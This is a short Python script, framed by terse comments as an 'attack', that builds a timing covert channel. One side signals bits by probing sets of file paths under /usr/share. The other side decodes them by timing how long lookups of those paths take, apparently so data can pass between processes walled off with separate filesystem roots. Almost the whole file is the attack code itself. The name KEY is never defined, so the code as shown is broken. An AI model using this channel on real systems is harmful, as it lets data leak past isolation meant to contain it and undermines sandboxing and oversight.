# attack: the same, but found by the time that a look takes
# wall: a root of its own
# lasts: yes

import os
import time

NAMES = 40


def names(n):
    return [f"/usr/share/{KEY}-{n}-{m}" for m in range(NAMES)]


def send(bits):
    for n, bit in enumerate(bits):
        for name in names(n) if bit else ():
            os.path.exists(name)


def receive(count):
    def duration(name):
        start = time.perf_counter_ns()
        os.access(name, 0)
        return time.perf_counter_ns() - start

    times = [sorted(map(duration, names(n)))[NAMES // 2] for n in range(count)]
    return [int(each < (min(times) + max(times)) / 2) for each in times]
